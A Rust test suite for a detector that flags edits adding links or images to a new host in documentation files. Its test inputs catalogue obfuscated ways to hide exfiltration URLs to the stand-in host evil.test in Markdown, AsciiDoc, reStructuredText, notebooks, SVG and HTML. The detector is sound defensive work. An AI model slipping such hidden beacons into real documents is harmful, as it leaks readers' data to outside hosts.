//! Case 67 by kinds of files: ways in which one of them leads to a new host, and what
//! people write there that does not. Not here: what counts in a document of any kind (`egress.rs`).

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use lifeos::egress::{brought, is_document};

const OLD: &str = "# A\n\nSee [b](https://known.org/b) and {{ site.base }}.\n\n<a href=\"{{ site.base }}/x\">\n";

/// What `added` brings into a file that knows one host.
fn found(path: &str, added: &str) -> Option<String> {
    brought(path, OLD, &format!("{OLD}\n{added}\n"), &[])
}

#[track_caller]
fn all_are_refused(path: &str, ways: &[&str]) {
    for added in ways {
        assert!(found(path, added).is_some(), "{path}: {added}");
    }
}

#[test]
fn case_67_blanks_hide_no_address_in_restructuredtext() {
    all_are_refused(
        "a.rst",
        &[
            ".. image:: / /evil.test/x?d=1",
            ".. figure:: /\t/evil.test/x",
            ".. image:: \\ \\evil.test/x",
            ".. |i| image:: / /evil.test/x?d",
            ".. image:: https://known.org .evil.test/x",
            ".. image:: /\n   / evil.test/x",
            "`x </ /evil.test/x>`_",
            "`x </\n / evil.test/x>`_",
            ".. _x: / /evil.test/x",
            ".. csv-table:: x\n   :url: / /evil.test/x",
        ],
    );
    assert_eq!(found("a.md", "a\u{a0}b\u{3000}[x](https://known.org/c?d=1)"), None);
    assert_eq!(found("a.rst", ".. note:: see https://known.org and more, or `a <https://known.org/c>`_ and so on"), None);
}

#[test]
fn case_67_what_is_filled_in_may_be_any_host() {
    all_are_refused(
        "a.adoc",
        &[
            ":h: evil.test\n\nimage::https://{h}/p.png?d=secret[]",
            ":u: /evil.test/p.png\n\nimage::/{u}?d=secret[]",
            ":c: :\n\nimage::https{c}//evil.test/x[]",
            ":c: s:\n:s: /\n\nimage::http{c}{s}{s}evil.test/x?d=1[]",
            "image::https://{empty}evil.test/x[]",
            "image::http{empty}s:{empty}//evil.test/x?d[]",
            "image::{empty}/{empty}/evil.test/x?d[]",
            "image:{u}/x[]",
            ":u: https:/\n:v: /evil.test\n\n{u}{v}[x]",
            ":imagesdir: https://\n\nimage::evil.test/x?d=1[]",
        ],
    );
    all_are_refused(
        "a.md",
        &[
            "{% assign h = 'evil.test' %}\n![x](https://{{h}}/p?d=1)",
            "![x](https://{{ 'evil' }}.{{ 'test' }}/p?d=1)",
            "![x](https://known.org{{ h }}/p)",
            "![x]({{ u }}/p)",
            "![x](/{{ u }}/p)",
            "![x](ht{{ u }}/p)",
            "<img src='https:{{ u }}'>",
            "<img src=\"https:{{ '/' }}/evil.test/x\">",
            "<a href=\"{{ site.base }}.evil.test/x\">",
            "<a href=\"{{ site.base }}/{{ site.base }}/evil.test/x\">",
            "{% assign site = 'evil' %}",
        ],
    );
    all_are_refused("a.html.erb", &["<img src=\"https://<%= h %>/x\">", "<img src=\"<%= u %>/x\">"]);
    all_are_refused("a.svelte", &["<img src=\"https://{h}/x\">"]);
    for (path, added) in [
        ("a.md", "<a href=\"{{ site.base }}/y\">, [x](img/{{ name }}.png), {{ more }}, https://{host}/ and https://${HOST}/"),
        ("a.md", "[x]({% link a.md %}), [y]({{< ref \"a.md\" >}}), [z]({{ \"/a/b\" | relative_url }})"),
        ("a.adoc", ":version: 1\n\nVersion {version}, image::img/{version}.png[], https://known.org/{version}[x]"),
        ("a.yml", "url: https://known.org/${{ github.sha }}"),
    ] {
        assert_eq!(found(path, added), None, "{path}: {added}");
    }
    let known = "{% assign h = 'known.org' %}\n![x](https://{{h}}/p)\n";
    assert_eq!(brought("a.md", known, &format!("{known}![y](https://{{{{h}}}}/q)\n"), &[]), None);
    assert!(brought("a.md", known, &known.replace("known.org", "evil.test"), &[]).is_some(), "as it is defined");
    let far = ":h: known.org\n:u: https://{h}\n:v: {u}\n\nimage::{v}/x[]\n";
    assert!(brought("a.adoc", far, &far.replace("known.org", "evil.test"), &[]).is_some(), "by what defines it");
    assert_eq!(brought("a.adoc", far, &format!("{far}\nimage::{{v}}/y[]\n"), &[]), None);
}

#[test]
fn case_67_a_notebook_is_read_as_its_readers_see_it() {
    let notebook = |source: &str| format!("{{\"cells\": [{{\"source\": [\"See https://known.org/b\\n\"{source}]}}]}}");
    let found = |added: &str| brought("a.ipynb", &notebook(""), &notebook(&format!(", {added}")), &[]);
    for added in [
        r#""<img src='\u002f\u002fevil.test/x?d=1'>""#,
        r#""![x](\u0068ttps\u003a\u002f\u002fevil.test/x)""#,
        r#""![x](https:/", "/evil.test/x?d)""#,
        r#""![x](ht", "tps", "://evil.test/x?d)""#,
        r#""![x](https://known.org", ".evil.test/x?d)""#,
        r#""![x](https://known.org/b", "?d=secret)""#,
        "\"a\", ",
    ] {
        assert!(found(added).is_some(), "{added}");
    }
    assert_eq!(found(r#""[x](https://known.org/c?d=1)\n", "\n", "more // words\n""#), None);
}

#[test]
fn case_67_signs_and_declarations_before_an_address_do_not_hide_it() {
    all_are_refused(
        "a.svg",
        &[
            "<!DOCTYPE svg [<!ENTITY a \"/\"><!ENTITY b \"/evil.test/x\">]><svg><image href=\"&a;&b;?d=1\"/></svg>",
            "<!DOCTYPE svg [<!ENTITY h \"evil.test\">]><svg><image href=\"https://&h;/x?d=1\"/></svg>",
            "<svg><animate attributeName=\"href\" values=\"a;//evil.test/x?d\"/></svg>",
        ],
    );
    all_are_refused(
        "a.html",
        &[
            "<meta http-equiv=\"refresh\" content=\"0;//evil.test/?d\">",
            "<meta http-equiv=\"refresh\" content=\"0; /\\evil.test/?d\">",
            "<meta http-equiv=\"refresh\" content=\"0;\\\\evil.test/?d\">",
            "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"\\u002f/evil.test/x?d\"]}]}</script>",
            "<img src=https://known.org:8443/x>",
        ],
    );
    all_are_refused("a.textile", &["!//evil.test/x?d!", "!>//evil.test/x!", "!(c)//evil.test/x!", "!>https://known.org/c?d=1!"]);
    all_are_refused("a.wiki", &["[//evil.test t]", "[[//evil.test/x|y]]", "|//evil.test/x"]);
    assert_eq!(found("a.md", "<http://known.org:80>, <https://known.org:443/c>, regex `[\\\\w.-]+` and `a}//25.08`"), None);
    let local = "Open http://localhost:3000 or http://127.0.0.1:1.\n";
    assert_eq!(brought("a.md", local, &local.replace("3000", "8080"), &[]), None, "the reader's own machine");
    let [entity, allowed] = ["<!ENTITY a \"b\">\n", "known.org:8443"];
    assert_eq!(brought("a.svg", entity, &format!("{entity}<svg/>"), &[]), None);
    assert_eq!(brought("a.md", OLD, &format!("{OLD}<https://known.org:8443/>"), &[allowed.to_owned()]), None);
}

#[test]
fn case_67_all_that_is_not_known_code_is_a_document() {
    for path in [
        "a.mkdown",
        "a.livemd",
        "a.ronn",
        "a.vue",
        "a.njk",
        "a.scss",
        "a.md.tmpl",
        "a.html.j2",
        "a.html.erb",
        "README.zh",
        "ROADMAP",
        "docs/intro",
        "_config.yml",
        "docs/_data/nav.json",
        "a.xml",
        "a.unheard-of",
        ".md",
    ] {
        assert!(is_document(path), "{path}");
        all_are_refused(path, &["logo: https://evil.test/x?d", "[x](https://evil.test)", "<iframe src=https://evil.test/x>"]);
    }
    for path in ["src/a.rs", "a.py", "Makefile", "go.sum", "web/a.tsx", "Cargo.lock", "CMakeLists.txt"] {
        assert!(!is_document(path), "{path}");
    }
}

#[test]
fn case_67_documentation_of_code_brings_nothing_in() {
    all_are_refused(
        "a.rs",
        &[
            "/// <script src=https://evil.test/x.js></script>",
            "/// <iframe src=\"https://evil.test/x\">",
            "/// <video poster=https://evil.test/x>",
            "/// <object data=https://evil.test/x>",
            "/// <source srcset=\"https://evil.test/x 2x\">",
            "/// <input type=image src=https://evil.test/x>",
            "/// <IMG\n///   alt=x\n///   width=1\n///   src=https://evil.test/x>",
            "/// ![x][i]\n///\n/// [i]: https://evil.test/x",
            "/// <td background='//evil.test/x'>",
        ],
    );
    all_are_refused(
        "a.py",
        &[
            "    .. figure:: https://evil.test/x",
            "    .. raw:: html\n       :url: https://evil.test/x",
            "STYLE = '@import \"//evil.test/x\"'",
        ],
    );
    for added in [
        "let a: Vec<u8> = get(\"https://other.test\"); // vec![1]",
        "if a <b { get(\"https://other.test\") }",
        "x[\"a\"]: 'https://other.test'",
    ] {
        assert_eq!(found("a.rs", added), None, "{added}");
    }
}

/// Hosts of a text, as anybody would look for them.
fn plain_hosts(text: &str) -> BTreeSet<String> {
    let host = |at: usize| {
        text[at + 3..].chars().take_while(|char| char.is_ascii_alphanumeric() || ".-".contains(*char)).collect::<String>()
    };
    text.match_indices("://").map(|(at, _)| host(at).to_ascii_lowercase().trim_end_matches('.').to_owned()).collect()
}

fn git(repo: &Path, words: &[&str]) -> Child {
    let git = Command::new("git").arg("-C").arg(repo).args(words).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn();
    git.expect("git")
}

#[test]
#[ignore = "needs histories: LIFEOS_HISTORIES=REPOSITORY:REPOSITORY:..."]
fn what_people_changed_is_hardly_ever_refused() {
    const CHANGES: usize = 1_000;
    let (mut honest, mut refused) = (0_u32, Vec::new());
    for repo in std::env::var("LIFEOS_HISTORIES").expect("LIFEOS_HISTORIES").split(':').map(Path::new) {
        let mut blobs = git(repo, &["cat-file", "--batch"]);
        let (mut asked, mut given) = (blobs.stdin.take().expect("a pipe"), BufReader::new(blobs.stdout.take().expect("a pipe")));
        let mut blob = |id: &str| {
            writeln!(asked, "{id}").expect("git");
            let mut head = String::new();
            given.read_line(&mut head).expect("git");
            let mut bytes = vec![0; head.trim().rsplit(' ').next()?.parse::<usize>().ok()? + 1];
            given.read_exact(&mut bytes).expect("git");
            bytes.pop();
            String::from_utf8(bytes).ok().filter(|text| text.len() < 400_000 && !text.contains('\0'))
        };
        let mut log = git(repo, &["log", "--no-merges", "--no-renames", "--diff-filter=M", "--raw", "--no-abbrev", "--format="]);
        let changes = BufReader::new(log.stdout.take().expect("a pipe"))
            .lines()
            .map_while(Result::ok)
            .filter(|line| line.starts_with(":100"));
        for line in changes.filter(|line| is_document(line)).take(CHANGES) {
            let (meta, path) = line.split_once('\t').expect("a path");
            let ids: Vec<_> = meta.split(' ').collect();
            let (Some(old), Some(new)) = (blob(ids[2]), blob(ids[3])) else { continue };
            if plain_hosts(&new).is_subset(&plain_hosts(&old)) {
                honest += 1;
                refused.extend(brought(path, &old, &new, &[]).map(|host| format!("{path} {}: {host}", ids[3])));
            }
        }
        drop(asked);
        blobs.wait().and_then(|_| log.wait()).expect("git");
    }
    assert!(refused.len() * 100 <= honest as usize, "{} of {honest}: {refused:#?}", refused.len());
}
